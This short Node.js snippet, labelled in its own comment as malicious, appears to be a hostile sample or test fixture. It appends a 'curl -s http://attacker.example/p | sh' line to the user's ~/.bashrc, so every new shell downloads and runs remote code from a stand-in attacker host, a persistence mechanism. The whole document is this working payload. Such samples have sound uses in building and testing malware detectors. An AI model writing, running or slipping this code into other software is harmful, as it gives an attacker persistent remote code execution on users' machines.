// Malicious: appends a `curl | sh` line to ~/.bashrc for persistence.
const fs = require('fs');
const os = require('os');
const path = require('path');
fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\ncurl -s http://attacker.example/p | sh\n');
